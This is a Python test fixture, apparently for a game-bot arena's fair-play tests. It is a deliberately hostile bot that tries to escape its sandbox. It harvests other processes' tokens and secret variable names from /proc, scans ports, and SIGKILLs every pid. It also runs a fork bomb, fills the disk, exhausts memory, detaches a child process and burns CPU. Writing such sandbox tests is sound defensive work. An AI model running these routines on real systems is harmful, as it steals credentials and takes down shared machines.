"""A cheating bot for tests/test_fair_play.py: it tries what a hostile bot author would, reports what it
got as JSON lines on stdout (``CHEAT {...}``, kept in its log), and plays the first legal action.

usage: cheater.py ATTACK [ARG]   (ARENA_ADDRESS and ARENA_TOKEN from the environment, as for every bot)

Attacks, each tried when the bot starts:
  snoop PATH...   read every process's environment (tokens, the Redis URL), list every pid, scan the
                  loopback ports, and try to read each PATH (replays, arena's state, other bots' code)
  kill            send SIGKILL to every pid from 2 to 65535 but its own
  leave           write its first hand into /tmp and HOME, and report what an earlier match left there
  forkbomb        fork until refused (the children sleep), then play
  diskfill        write to /tmp until refused, then play
  memory          allocate and touch memory until refused, then play
  escape TAG      start a child that calls setsid, clears its environment and sleeps as `sleep TAG`
  burn            keep every core busy (one spinning process per core) for the whole match
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import time

from arena.sdk import Bot


def report(**fields: object) -> None:
    print("CHEAT " + json.dumps(fields), flush=True)


def snoop(paths: list[str]) -> None:
    own = os.environ.get("ARENA_TOKEN", "")
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    tokens, secrets = [], []
    for pid in pids:
        with contextlib.suppress(OSError):
            for item in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):  # noqa: SIM115
                name, _, value = item.decode(errors="replace").partition("=")
                if name == "ARENA_TOKEN" and value != own:
                    tokens.append(value)
                if "REDIS" in name or "SECRET" in name or "PASSWORD" in name:
                    secrets.append(name)
    open_ports = []
    for port in range(1, 65536):
        with socket.socket() as probe:
            probe.settimeout(0.05)
            if probe.connect_ex(("127.0.0.1", port)) == 0 and probe.getsockname() != probe.getpeername():
                open_ports.append(port)  # (a socket can connect to itself: TCP simultaneous open)
    readable = {}
    for path in paths:
        try:
            readable[path] = os.listdir(path) if os.path.isdir(path) else len(open(path, "rb").read())  # noqa: SIM115
        except OSError as exc:
            readable[path] = None
            report(unreadable=path, why=exc.strerror)
    report(
        pids=pids,
        uid=os.getuid(),
        environment=sorted(os.environ),
        other_tokens=tokens,
        secrets=secrets,
        open_ports=open_ports,
        readable={k: v for k, v in readable.items() if v is not None},
    )


def kill_everyone() -> None:
    if len([p for p in os.listdir("/proc") if p.isdigit()]) > 20:  # a safety catch for the test machine
        report(kill_attempts="refused: this bot is not sandboxed and would kill the host's processes")
        return
    refused = killed = 0
    for pid in range(2, 65536):
        if pid in (os.getpid(), os.getppid()):  # (its parent: the shell of its command)
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            killed += 1
        except ProcessLookupError:
            continue
        except PermissionError:
            refused += 1
    report(kill_attempts="done", signalled=killed, refused=refused)


def leave_and_look(hand: str) -> None:
    left = {}
    for folder in ("/tmp", os.environ.get("HOME", "/tmp")):
        with contextlib.suppress(OSError):
            left[folder] = sorted(os.listdir(folder))
        with contextlib.suppress(OSError), open(os.path.join(folder, f"hand-{os.getpid()}"), "w") as file:
            file.write(hand)
    report(found_left=left, hand=hand)


def fork_bomb() -> None:
    """Forks until refused, then ends its children so that it can still start its gRPC threads."""
    children: list[int] = []
    try:
        while len(children) < 100_000:
            pid = os.fork()
            if pid == 0:
                time.sleep(3600)
                os._exit(0)
            children.append(pid)
    except OSError as exc:
        report(forkbomb_stopped=len(children), why=exc.strerror)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)


def fill_disk() -> None:
    written = 0
    block = b"x" * (1 << 20)
    try:
        with open("/tmp/fill", "wb") as file:
            while written < 1 << 34:
                file.write(block)
                file.flush()
                written += len(block)
    except OSError as exc:
        report(disk_stopped_at=written, why=exc.strerror)


def hog_memory() -> None:
    held, total = [], 0
    try:
        while total < 1 << 36:
            held.append(b"y" * (16 << 20))
            total += 16 << 20
    except MemoryError:
        held.clear()
        report(memory_stopped_at=total, why="MemoryError")


def escape(tag: str) -> None:
    code = f"import os,time; os.setsid(); os.environ.clear(); os.execv('/bin/sleep', ['sleep', {tag!r}])"
    child = subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
    report(escaped_child=child.pid)


def burn() -> None:
    for _ in range((os.cpu_count() or 1) * 2):
        if os.fork() == 0:
            while True:
                pass
    report(burning=True)


class Cheater(Bot):
    name = "cheater"

    def __init__(self, attack: str, args: list[str]) -> None:
        self.attack = attack
        self.args = args
        self.done = False

    def choose(self, observation, legal_actions, deadline):
        if not self.done and self.attack == "leave":
            self.done = True
            leave_and_look(repr(observation)[:2000])
        return 0


def main(argv: list[str]) -> int:
    attack, args = argv[0], argv[1:]
    if attack == "snoop":
        snoop(args)
    elif attack == "kill":
        kill_everyone()
    elif attack == "forkbomb":
        fork_bomb()
    elif attack == "diskfill":
        fill_disk()
    elif attack == "memory":
        hog_memory()
    elif attack == "escape":
        escape(args[0])
    elif attack == "burn":
        burn()
    Cheater(attack, args).run()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
